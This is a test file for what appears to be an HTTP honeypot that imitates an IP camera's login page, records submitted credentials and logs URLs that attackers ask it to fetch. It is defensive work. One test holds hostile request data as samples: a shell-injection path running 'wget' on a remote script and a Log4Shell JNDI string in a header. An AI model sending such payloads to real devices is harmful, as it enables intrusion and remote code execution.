import { expect, it } from 'vitest'
import { Rehearsal } from '../../testing/rehearsal.ts'
import { httpMachine } from './machine.ts'

const options = {
  server: 'GoAhead-Webs',
  headers: { 'X-Frame-Options': 'SAMEORIGIN' },
  realm: 'IPCamera',
  responses: [
    { path: '/', status: 200, body: '<title>Login</title>' },
    { method: 'POST', path: '/login*', status: 302, headers: { Location: '/' } },
    { path: '/echo*', status: 200, body: '{{path}} at {{host}}' },
  ],
}
const ask = (...said: string[]) =>
  new Rehearsal('http', options, [{ user: 'admin', password: '*' }]).hear(httpMachine(), ...said)

it('answers by template, with the headers that a scanner looks at', () => {
  const { text, isOver } = ask('GET / HTTP/1.1\r\nHost: a\r\n\r\n')
  expect(text).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
  expect(text).toContain('Server: GoAhead-Webs\r\nX-Frame-Options: SAMEORIGIN\r\n')
  expect(text).toMatch(/Content-Length: 20\r\nConnection: keep-alive\r\n\r\n<title>Login<\/title>$/)
  expect(isOver).toBe(false)
})

it('answers each of several requests in turn, and no body to HEAD', () => {
  const { text } = ask('HEAD / HTTP/1.1\r\n\r\nGET /none HTTP/1.0\r\n\r\nGET / HTTP/1.1\r\n\r\n')
  expect(text.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 401'])
  expect(text).not.toContain('<title>Login')
})

it('asks for credentials with its realm, and tells those that come', () => {
  expect(ask('GET /x HTTP/1.1\r\n\r\n').text).toContain('WWW-Authenticate: Basic realm="IPCamera"')
  const basic = Buffer.from('admin:a:b').toString('base64')
  const talk = ask(`GET /x HTTP/1.1\r\nAuthorization: Basic ${basic}\r\n\r\n`)
  expect(talk.text).toMatch(/^HTTP\/1\.1 200/)
  expect(talk.events).toMatchObject([{ kind: 'login', user: 'admin', password: 'a:b', accepted: true }])
})

it.each([
  ['application/x-www-form-urlencoded', 'username=root&password=a%20b'],
  ['application/json', '{"data":{"user":"root","pwd":"a b"}}'],
  [
    'multipart/form-data; boundary=x',
    '--x\r\nContent-Disposition: form-data; name="log"\r\n\r\nroot\r\n--x\r\nContent-Disposition: form-data; name="pwd"\r\n\r\na b\r\n--x--',
  ],
])('tells what was put into a form of %s', (type, body) => {
  const talk = ask(
    `POST /login HTTP/1.1\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  )
  expect(talk.text).toMatch(/^HTTP\/1\.1 302 Found/)
  expect(talk.events).toMatchObject([{ kind: 'login', user: 'root', password: 'a b', accepted: false }])
})

it('reads a body in chunks, after saying that it may come', () => {
  const body = 'user=u&password=p'
  const talk = ask(
    'POST /login HTTP/1.1\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n',
    `7\r\n${body.slice(0, 7)}\r\na;x=y\r\n${body.slice(7)}\r\n0\r\nTrailer: x\r\n\r\n`,
  )
  expect(talk.text).toMatch(/^HTTP\/1\.1 100 Continue\r\n\r\nHTTP\/1\.1 302/)
  expect(talk.events).toMatchObject([{ user: 'u', password: 'p' }])
})

it('tells what it was asked to fetch', () => {
  const { events } = ask(
    'GET /shell?cd+/tmp;wget+http://192.0.2.9/a.sh HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/x}\r\nReferer: http://x/\r\n\r\n',
  )
  expect(events).toMatchObject([{ url: 'http://192.0.2.9/a.sh' }, { url: 'ldap://192.0.2.9/x' }])
})

it('is nobody’s proxy', () => {
  expect(ask('CONNECT 192.0.2.9:25 HTTP/1.1\r\n\r\n').text).toMatch(/^HTTP\/1\.1 405/)
  expect(ask('GET http://192.0.2.9/ HTTP/1.1\r\n\r\n').text).toContain('<title>Login')
})

it('never sends back what would be markup', () => {
  const { text } = ask('GET /echo<script> HTTP/1.1\r\nHost: "><b>\r\n\r\n')
  expect(text).toContain('/echo&#60;script&#62; at &#34;&#62;&#60;b&#62;')
})

it.each([
  ['TLS', Buffer.from('160301020001', 'hex')],
  ['HTTP/2', 'PRI * HTTP/2.0 x\r\n\r\nSM\r\n\r\n'],
  ['a body beyond the limit', 'POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n'],
  ['a head beyond the limit', `GET / HTTP/1.1\r\nX: ${'a'.repeat(20_000)}`],
  ['a broken chunk', 'POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n'],
])('refuses %s and hangs up', (_name, said) => {
  const talk = new Rehearsal('http').hear(httpMachine(), said)
  expect(talk.text).toMatch(/^HTTP\/1\.1 4\d\d /)
  expect(talk.isOver).toBe(true)
})
